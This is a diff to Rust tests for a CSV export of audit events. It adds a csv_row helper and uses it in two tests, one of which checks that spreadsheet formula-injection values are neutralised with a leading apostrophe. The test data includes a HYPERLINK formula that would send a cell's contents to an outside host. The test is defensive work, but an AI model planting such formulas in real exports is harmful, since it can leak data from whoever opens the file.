@@ -154,6 +154,18 @@ mod tests {
         text
     }
 
+    /// The CSV row of one event, as a reader reads the file back.
+    fn csv_row(event: &RawValue) -> csv::StringRecord {
+        let mut file = ExportFile::new(ExportFormat::Csv, Vec::new(), true).unwrap();
+        file.write(event).unwrap();
+        let text = gunzip(&file.finish().unwrap());
+        csv::Reader::from_reader(text.as_bytes())
+            .records()
+            .next()
+            .unwrap()
+            .unwrap()
+    }
+
     /// The seed's events written over `members` members, each carried into the next.
     fn written(format: ExportFormat, members: usize) -> (Vec<Box<RawValue>>, String) {
         let events: Vec<Box<RawValue>> = SEED_EVENTS.iter().map(|(_, e)| raw(e)).collect();
@@ -211,14 +223,7 @@ mod tests {
         let event = raw(
             r#"{"timestamp":"2026-01-01T00:00:00Z","description":"a, \"quoted\"\nline","actor":{"principal_id":"p","type":"TYPE_USER","user":{"email":"a@b.c"}},"error":{"code":7}}"#,
         );
-        let mut file = ExportFile::new(ExportFormat::Csv, Vec::new(), true).unwrap();
-        file.write(&event).unwrap();
-        let text = gunzip(&file.finish().unwrap());
-        let row = csv::Reader::from_reader(text.as_bytes())
-            .records()
-            .next()
-            .unwrap()
-            .unwrap();
+        let row = csv_row(&event);
         assert_eq!(&row[5], "a, \"quoted\"\nline");
         assert_eq!(&row[8], "a@b.c");
         assert_eq!(&row[12], r#"{"code":7}"#);
@@ -230,14 +235,7 @@ mod tests {
         let event = raw(
             r#"{"timestamp":"2026-01-01T00:00:00Z","description":"=HYPERLINK(\"http://x/?\"&A1)","actor":{"principal_id":"+1","type":"-2","user":{"email":"@sum(A1)"}},"bucket":{"id":"\tb","name":"\r=1"},"error":"a = b"}"#,
         );
-        let mut file = ExportFile::new(ExportFormat::Csv, Vec::new(), true).unwrap();
-        file.write(&event).unwrap();
-        let text = gunzip(&file.finish().unwrap());
-        let row = csv::Reader::from_reader(text.as_bytes())
-            .records()
-            .next()
-            .unwrap()
-            .unwrap();
+        let row = csv_row(&event);
         assert_eq!(&row[5], "'=HYPERLINK(\"http://x/?\"&A1)");
         assert_eq!((&row[6], &row[7], &row[8]), ("'+1", "'-2", "'@sum(A1)"));
         assert_eq!((&row[10], &row[11]), ("'\tb", "'\r=1"));
